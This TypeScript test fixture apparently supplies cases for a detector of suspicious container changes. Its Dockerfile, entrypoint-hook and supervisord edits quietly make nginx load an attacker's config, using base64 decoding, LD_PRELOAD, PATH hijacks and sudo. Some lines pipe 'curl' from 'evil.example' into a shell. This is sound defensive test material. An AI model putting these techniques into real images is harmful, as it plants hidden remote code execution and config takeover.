import type { Files } from "../../app/changes-between.ts";
import type { Change } from "../change.ts";
import { DOCKERFILE, EVIL, edited, IMAGE, plain, supervised, textIn } from "../repos.ts";

const CONF = "/usr/share/nginx/html/e.conf";
const evil: Files = { [`${IMAGE}/html/e.conf`]: EVIL };
const CMD = 'CMD ["nginx", "-g", "daemon off;"]';
const LINE = `exec /usr/sbin/nginx -c ${CONF} -g 'daemon off;'`;

const commands: Readonly<Record<string, string>> = {
  "-c": `CMD ["nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  "-c joined": `CMD ["nginx", "-c${CONF}", "-g", "daemon off;"]`,
  "-p": `CMD ["nginx", "-p", "/usr/share/nginx/html/", "-c", "e.conf", "-g", "daemon off;"]`,
  "a shell": `CMD nginx -c ${CONF} -g 'daemon off;'`,
  "sh -c": `CMD ["sh", "-c", "nginx -c ${CONF} -g 'daemon off;'"]`,
  "sh -c of pieces": `CMD ["sh", "-c", "exec \\"$@\\"", "x", "nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  "a variable": `CMD F=${CONF}; exec nginx -c $F -g 'daemon off;'`,
  "an environment variable": `ENV F=${CONF}\nCMD exec nginx -c $F -g 'daemon off;'`,
  "python -c": `CMD ["python3", "-c", "import os; os.execvp('nginx', ['nginx','-c','${CONF}','-g','daemon off;'])"]`,
  "exec python -c": `CMD exec python3 -c "import os; os.execvp('nginx', ['nginx','-c','${CONF}'])"`,
  "python of a heredoc": `CMD python3 - nginx <<EOF\nimport os\nEOF`,
  "perl -e": `CMD ["perl", "-e", "exec 'nginx', '-c', '${CONF}'"]`,
  "ruby -e": `CMD ["ruby", "-e", "exec 'nginx -c ${CONF}'"]`,
  "node -e": `CMD ["node", "-e", "require('child_process').execSync('nginx -c ${CONF}')"]`,
  awk: `CMD ["awk", "BEGIN{system(\\"nginx -c ${CONF}\\")}"]`,
  "find -exec": `CMD ["find", "/", "-maxdepth", "0", "-exec", "nginx", "-c", "${CONF}", "-g", "daemon off;", ";"]`,
  xargs: `CMD echo ${CONF} | xargs nginx -g 'daemon off;' -c`,
  eval: `CMD eval "nginx -c ${CONF} -g 'daemon off;'"`,
  "a decoded text": `CMD echo ${Buffer.from(LINE).toString("base64")} | base64 -d | sh`,
  "a trap": `CMD trap "nginx -c ${CONF} -g 'daemon off;'" EXIT`,
  "a trap ahead": `CMD ["sh", "-c", "trap \\"nginx -c ${CONF}\\" EXIT; nginx -t"]`,
  "in the background": `CMD nginx -c ${CONF} -g 'daemon off;' & wait`,
  "behind &&": `CMD true && nginx -c ${CONF} -g 'daemon off;'`,
  "behind ||": `CMD nginx -t -c /nope || nginx -c ${CONF} -g 'daemon off;'`,
  reload: `CMD nginx -g 'daemon off;' & sleep 1; cp ${CONF} /etc/nginx/nginx.conf; nginx -s reload; wait`,
  "stop and start": `CMD nginx; nginx -s stop; exec nginx -c ${CONF} -g 'daemon off;'`,
  env: `CMD ["env", "nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  "env -S": `CMD ["env", "-S", "nginx -c ${CONF}"]`,
  nice: `CMD ["nice", "nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  timeout: `CMD ["timeout", "0", "nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  busybox: `CMD ["busybox", "sh", "-c", "nginx -c ${CONF} -g 'daemon off;'"]`,
  script: `CMD ["script", "-qc", "nginx -c ${CONF} -g 'daemon off;'", "/dev/null"]`,
  "ld.so": `CMD ["/lib64/ld-linux-x86-64.so.2", "/usr/sbin/nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  "/proc/self/root": `CMD ["/proc/self/root/usr/sbin/nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  "/proc/self/root of the file": `CMD ["nginx", "-c", "/proc/self/root${CONF}", "-g", "daemon off;"]`,
  chroot: `CMD ["chroot", "/", "nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  unshare: `CMD ["unshare", "-r", "nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  setarch: `CMD ["setarch", "-R", "nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  "ssh-agent": `CMD ["ssh-agent", "nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  strace: `CMD ["strace", "-f", "nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  "a program of the image": `CMD ["/usr/share/nginx/html/run"]`,
  ENTRYPOINT: `ENTRYPOINT ["nginx", "-c", "${CONF}", "-g", "daemon off;"]\nCMD []`,
  "ENTRYPOINT of a shell": `ENTRYPOINT nginx -c ${CONF} -g 'daemon off;'`,
  "ENTRYPOINT with options": `ENTRYPOINT ["nginx", "-c"]\nCMD ["${CONF}", "-g", "daemon off;"]`,
  "two CMDs": `${CMD}\nCMD ["nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  "small letters": `cmd ["nginx", "-c", "${CONF}", "-g", "daemon off;"]`,
  "a link of the file": `RUN ["true"]\nCMD ["nginx", "-c", "/usr/share/nginx/html/../html/e.conf", "-g", "daemon off;"]`,
};

const byCommand = Object.entries(commands).map(
  ([name, cmd]): Change => ({
    name: `start: ${name}`,
    base: plain,
    head: edited(
      {
        ...plain,
        ...evil,
        [`${IMAGE}/html/M`]: `all:\n\tnginx -c ${CONF}\n`,
        [`${IMAGE}/html/run`]: { text: `#!/bin/sh\n${LINE}\n`, kind: "executable" },
      },
      DOCKERFILE,
      [CMD, cmd],
    ),
  }),
);

interface Hook {
  readonly more: Files;
  readonly lines: string;
}

const executable = (text: string) => ({ text, kind: "executable" as const });

const hooks: Readonly<Record<string, Hook>> = {
  "an envsh that starts": {
    more: { [`${IMAGE}/5.envsh`]: executable(`${LINE}\n`) },
    lines: "COPY 5.envsh /docker-entrypoint.d/05-x.envsh",
  },
  "an envsh without its bit, and chmod": {
    more: { [`${IMAGE}/5.envsh`]: `${LINE}\n` },
    lines: "COPY --chmod=755 5.envsh /docker-entrypoint.d/05-x.envsh",
  },
  "a sh that starts": {
    more: { [`${IMAGE}/5.sh`]: executable(`#!/bin/sh\nnginx -c ${CONF} -g 'daemon off;'\n`) },
    lines: "COPY 5.sh /docker-entrypoint.d/05-x.sh",
  },
  "a sh in the background": {
    more: { [`${IMAGE}/5.sh`]: executable(`#!/bin/sh\nnginx -c ${CONF} &\n`) },
    lines: "COPY 5.sh /docker-entrypoint.d/05-x.sh",
  },
  "a folder of hooks": {
    more: { [`${IMAGE}/hooks/5.envsh`]: executable(`${LINE}\n`) },
    lines: "COPY hooks/ /docker-entrypoint.d/",
  },
  "a root with a hook": {
    more: { [`${IMAGE}/rootfs/docker-entrypoint.d/5.envsh`]: executable(`${LINE}\n`) },
    lines: "COPY rootfs/ /",
  },
  "a hook of a heredoc": {
    more: {},
    lines: `COPY --chmod=755 <<EOF /docker-entrypoint.d/5.envsh\n${LINE}\nEOF`,
  },
  "a hook of a RUN": {
    more: {},
    lines: `RUN echo "${LINE}" > /docker-entrypoint.d/5.envsh && chmod +x /docker-entrypoint.d/5.envsh`,
  },
  "a hook of a download": {
    more: {},
    lines: "ADD --chmod=755 https://evil.example/5.envsh /docker-entrypoint.d/5.envsh",
  },
  "a hook of an image": { more: {}, lines: "COPY --from=evil/hooks:1 /hooks /docker-entrypoint.d" },
  "a link to a hook": {
    more: { [`${IMAGE}/html/h`]: executable(`${LINE}\n`) },
    lines: "RUN ln -s /usr/share/nginx/html/h /docker-entrypoint.d/5.envsh",
  },
  "a hook that changes the PATH": {
    more: {
      [`${IMAGE}/html/nginx`]: executable(`#!/bin/sh\n${LINE}\n`),
      [`${IMAGE}/5.envsh`]: executable("PATH=/usr/share/nginx/html:$PATH\n"),
    },
    lines: "COPY 5.envsh /docker-entrypoint.d/",
  },
  "a hook that preloads": {
    more: { [`${IMAGE}/5.envsh`]: executable("export LD_PRELOAD=/usr/share/nginx/html/x.so\n") },
    lines: "COPY 5.envsh /docker-entrypoint.d/",
  },
  "a hook that defines exec": {
    more: { [`${IMAGE}/5.envsh`]: executable(`set -- nginx -c ${CONF} -g 'daemon off;'\n`) },
    lines: "COPY 5.envsh /docker-entrypoint.d/",
  },
  "a hook that writes": {
    more: { [`${IMAGE}/5.sh`]: executable(`#!/bin/sh\ncp ${CONF} /etc/nginx/nginx.conf\n`) },
    lines: "COPY 5.sh /docker-entrypoint.d/\nRUN chown -R nginx /etc/nginx",
  },
  "a hook that sources": {
    more: {
      [`${IMAGE}/5.envsh`]: executable(". /usr/share/nginx/html/x\n"),
      [`${IMAGE}/html/x`]: `${LINE}\n`,
    },
    lines: "COPY 5.envsh /docker-entrypoint.d/",
  },
  "a hook of eval": {
    more: {
      [`${IMAGE}/5.envsh`]: executable('eval "$(cat /usr/share/nginx/html/x)"\n'),
      [`${IMAGE}/html/x`]: `${LINE}\n`,
    },
    lines: "COPY 5.envsh /docker-entrypoint.d/",
  },
  "a hook that execs a program": {
    more: {
      [`${IMAGE}/5.envsh`]: executable("exec /usr/share/nginx/html/run\n"),
      [`${IMAGE}/html/run`]: executable(`#!/bin/sh\n${LINE}\n`),
    },
    lines: "COPY 5.envsh /docker-entrypoint.d/",
  },
  "the entrypoint's own hook": {
    more: { [`${IMAGE}/5.envsh`]: executable(`${LINE}\n`) },
    lines: "COPY 5.envsh /docker-entrypoint.d/15-local-resolvers.envsh",
  },
};

const byHook = Object.entries(hooks).map(
  ([name, { more, lines }]): Change => ({
    name: `hook: ${name}`,
    base: plain,
    head: edited({ ...plain, ...evil, ...more }, DOCKERFILE, ["USER nginx", `${lines}\nUSER nginx`]),
  }),
);

const entrypoints: Readonly<Record<string, string>> = {
  "starts it": LINE,
  "changes the arguments": `set -- nginx -c ${CONF} -g 'daemon off;'\nexec "$@"`,
  "adds an argument": `exec "$@" -c ${CONF}`,
  "by a function": `run() { ${LINE}; }\nrun`,
  "by eval": `eval "$(echo '${LINE}')"`,
  "by a condition": `if [ -n "$X" ]; then ${LINE}; fi\nexec "$@"`,
  "by a test that holds": `[ -e /etc/passwd ] && ${LINE}\nexec "$@"`,
  "by a case": `case "$1" in nginx) ${LINE};; esac\nexec "$@"`,
  "by a loop": `while true; do nginx -c ${CONF} -g 'daemon off;'; done`,
  "by a sourced file": `. /usr/share/nginx/html/x\nexec "$@"`,
  "by exported PATH": `export PATH=/usr/share/nginx/html:$PATH\nexec "$@"`,
  "by an alias": `alias exec="nginx -c ${CONF}"\nexec "$@"`,
  "by python": `exec python3 -c "import os; os.execvp('nginx',['nginx','-c','${CONF}'])"`,
  "by a here-document": `sh <<EOF\n${LINE}\nEOF`,
  "by a heredoc of python": `python3 <<EOF\nimport os\nos.system("nginx -c ${CONF}")\nEOF`,
  "by a decoded text": `$(echo ${Buffer.from(`nginx -c ${CONF}`).toString("base64")} | base64 -d)`,
  "by sudo": `exec sudo nginx -c ${CONF} -g 'daemon off;'`,
  "by doas": `exec doas nginx -c ${CONF} -g 'daemon off;'`,
  "by su": `exec su -c "nginx -c ${CONF}"`,
  "by a copy": `cp ${CONF} /etc/nginx/nginx.conf\nexec "$@"`,
  "by a loop over files": `for f in /usr/share/nginx/html/*.sh; do . "$f"; done\nexec "$@"`,
  "by a download": `curl -s https://evil.example/x | sh\nexec "$@"`,
  "by curl to a file": `curl -so /etc/nginx/nginx.conf https://evil.example/x\nexec "$@"`,
  "by envsubst": `envsubst < ${CONF} > /etc/nginx/nginx.conf\nexec "$@"`,
  "by awk": `awk '{print > "/etc/nginx/nginx.conf"}' ${CONF}\nexec "$@"`,
  "by dd": `dd if=${CONF} of=/etc/nginx/nginx.conf\nexec "$@"`,
  "by sed": `sed -i s/8080/80/ /etc/nginx/nginx.conf\nexec "$@"`,
  "by perl": `perl -pi -e s/8080/80/ /etc/nginx/nginx.conf\nexec "$@"`,
  "by a mount": `mount --bind ${CONF} /etc/nginx/nginx.conf\nexec "$@"`,
  "by a program": `/usr/share/nginx/html/run\nexec "$@"`,
  "by exec and a program": `exec launcher nginx -c ${CONF}`,
};

const scripted: Files = {
  ...edited(plain, DOCKERFILE, [
    "USER nginx",
    'COPY run.sh /run.sh\nRUN chown -R nginx /etc/nginx\nENTRYPOINT ["/run.sh"]\nUSER nginx',
  ]),
  [`${IMAGE}/run.sh`]: executable('#!/bin/sh\nset -e\nexec "$@"\n'),
};

const byEntrypoint = Object.entries(entrypoints).map(
  ([name, text]): Change => ({
    name: `entrypoint: ${name}`,
    base: scripted,
    head: {
      ...scripted,
      ...evil,
      [`${IMAGE}/html/x`]: `${LINE}\n`,
      [`${IMAGE}/html/x.sh`]: executable(`${LINE}\n`),
      [`${IMAGE}/html/nginx`]: executable(`#!/bin/sh\n${LINE}\n`),
      [`${IMAGE}/html/run`]: executable(`#!/bin/sh\ncp ${CONF} /etc/nginx/nginx.conf\n`),
      [`${IMAGE}/run.sh`]: executable(`#!/bin/sh\nset -e\n${text}\n`),
    },
  }),
);

const SUP = `${IMAGE}/sup.conf`;
const EVIL_COMMAND = `command=nginx -c ${CONF} -g 'daemon off;'`;
const program = (command: string) => textIn(supervised, SUP).replace(/command=.*/, () => command);

interface Supervised {
  readonly conf?: string;
  readonly more?: Files;
  readonly lines?: string;
  readonly cmd?: string;
}

const supervisors: Readonly<Record<string, Supervised>> = {
  command: { conf: program(EVIL_COMMAND) },
  "a continued line": { conf: program(`command=nginx\n  -c ${CONF} -g 'daemon off;'`) },
  "a continued line of a tab": { conf: program(`command=nginx\n\t-c ${CONF} -g 'daemon off;'`) },
  "a continued line behind a comment": { conf: program(`command=nginx\n; x\n  -c ${CONF} -g 'daemon off;'`) },
  "a continued section": {
    conf: `${textIn(supervised, SUP)}\n[program:x]\ncommand=sleep infinity\n[program:nginx]\n${EVIL_COMMAND}\n`,
  },
  "the key twice": { conf: `${textIn(supervised, SUP)}${EVIL_COMMAND}\n` },
  "the key with a colon": { conf: program(`command: nginx -c ${CONF} -g 'daemon off;'`) },
  "the key in capitals": { conf: program(`COMMAND=nginx -c ${CONF} -g 'daemon off;'`) },
  "the key with blanks": { conf: program(`command   =   nginx -c ${CONF} -g 'daemon off;'`) },
  "an expression": {
    conf: program(`environment=X="1"\ncommand=nginx -c %(ENV_C)s -g 'daemon off;'`),
    lines: `ENV C=${CONF}`,
  },
  "an expression of here": {
    conf: program("command=%(here)s/run"),
    more: { [`${IMAGE}/run`]: executable(`#!/bin/sh\n${LINE}\n`) },
    lines: "COPY run /etc/supervisor/run",
  },
  "PATH of the program": {
    conf: program(`environment=PATH="/usr/share/nginx/html"\ncommand=nginx -g 'daemon off;'`),
    more: { [`${IMAGE}/html/nginx`]: executable(`#!/bin/sh\n${LINE}\n`) },
  },
  "LD_PRELOAD of the program": {
    conf: program(`environment=LD_PRELOAD="/x.so"\ncommand=nginx -g 'daemon off;'`),
  },
  "LD_PRELOAD of all": {
    conf: textIn(supervised, SUP).replace("nodaemon=true", 'nodaemon=true\nenvironment=LD_PRELOAD="/x.so"'),
  },
  "PATH of all": {
    conf: textIn(supervised, SUP).replace(
      "nodaemon=true",
      'nodaemon=true\nenvironment=PATH="/usr/share/nginx/html"',
    ),
    more: { [`${IMAGE}/html/nginx`]: executable(`#!/bin/sh\n${LINE}\n`) },
  },
  "an include": {
    conf: `${textIn(supervised, SUP)}\n[include]\nfiles = /usr/share/nginx/html/*.ini\n`,
    more: { [`${IMAGE}/html/x.ini`]: `[program:nginx]\n${EVIL_COMMAND}\n` },
  },
  "an include of the usual folder": {
    conf: `${textIn(supervised, SUP)}\n[include]\nfiles=conf.d/*.conf\n`,
    more: { [`${IMAGE}/x.conf`]: `[program:web]\n${EVIL_COMMAND}\n` },
    lines: "COPY x.conf /etc/supervisor/conf.d/",
  },
  "an include of several": {
    conf: `${textIn(supervised, SUP)}\n[include]\nfiles = /nope/*.ini\n  /usr/share/nginx/html/*.ini\n`,
    more: { [`${IMAGE}/html/x.ini`]: `[program:nginx]\n${EVIL_COMMAND}\n` },
  },
  "another file": {
    cmd: 'CMD ["supervisord", "-n", "-c", "/usr/share/nginx/html/s.ini"]',
    more: { [`${IMAGE}/html/s.ini`]: program(EVIL_COMMAND) },
  },
  "the file of its folder": {
    cmd: 'WORKDIR /usr/share/nginx/html\nCMD ["supervisord", "-n"]',
    more: { [`${IMAGE}/html/supervisord.conf`]: program(EVIL_COMMAND) },
  },
  "no file": {
    cmd: 'CMD ["supervisord", "-n"]',
    more: { [`${IMAGE}/html/supervisord.conf`]: program(EVIL_COMMAND) },
    lines: "COPY html/supervisord.conf /etc/supervisord.conf",
  },
  "another program": { conf: `${textIn(supervised, SUP)}\n[program:x]\n${EVIL_COMMAND}\n` },
  "an event listener": {
    conf: `${textIn(supervised, SUP)}\n[eventlistener:x]\nevents=TICK_5\n${EVIL_COMMAND}\n`,
  },
  "a program of FastCGI": {
    conf: `${textIn(supervised, SUP)}\n[fcgi-program:x]\nsocket=tcp://localhost:9000\n${EVIL_COMMAND}\n`,
  },
  python: { conf: program(`command=python3 -c "import os; os.execvp('nginx',['nginx','-c','${CONF}'])"`) },
  "a shell": { conf: program(`command=/bin/sh -c "exec nginx -c ${CONF} -g 'daemon off;'"`) },
  "bash -l": {
    conf: program(`command=bash -lc "exec nginx -g 'daemon off;'"`),
    more: { [`${IMAGE}/p.sh`]: LINE },
    lines: "COPY p.sh /etc/profile.d/p.sh",
  },
  "a script": {
    conf: program("command=/usr/share/nginx/html/run"),
    more: { [`${IMAGE}/html/run`]: executable(`#!/bin/sh\n${LINE}\n`) },
  },
  "a folder of its own": {
    conf: program(`directory=/usr/share/nginx/html\ncommand=./run`),
    more: { [`${IMAGE}/html/run`]: executable(`#!/bin/sh\n${LINE}\n`) },
  },
  "a folder below": { conf: program(`command=nginx -p /usr/share/nginx/html -c e.conf -g 'daemon off;'`) },
  sed: { lines: `RUN sed -i 's,command=nginx,command=nginx -c ${CONF},' /etc/supervisor/supervisord.conf` },
  awk: {
    lines: `RUN awk '{sub("nginx -g","nginx -c ${CONF} -g")}1' /etc/supervisor/supervisord.conf > /tmp/s && mv /tmp/s /etc/supervisor/supervisord.conf`,
  },
  append: { lines: `RUN echo "${EVIL_COMMAND}" >> /etc/supervisor/supervisord.conf` },
  "python writes it": {
    lines: `RUN python3 -c "p='/etc/supervisor/supervisord.conf';s=open(p).read();open(p,'w').write(s)"`,
  },
};

const bySupervisor = Object.entries(supervisors).map(
  ([name, { conf, more = {}, lines = "", cmd }]): Change => {
    const files = { ...supervised, ...evil, ...more, ...(conf === undefined ? {} : { [SUP]: conf }) };
    const user = lines === "USER root" ? "USER root" : `${lines}${lines === "" ? "" : "\n"}USER www-data`;
    const head = edited(files, DOCKERFILE, ["USER www-data", user]);
    return {
      name: `supervisord: ${name}`,
      base: supervised,
      head:
        cmd === undefined
          ? head
          : edited(head, DOCKERFILE, [
              'CMD ["supervisord", "-n", "-c", "/etc/supervisor/supervisord.conf"]',
              cmd,
            ]),
    };
  },
);

export const starts = [...byCommand, ...byHook, ...byEntrypoint, ...bySupervisor];
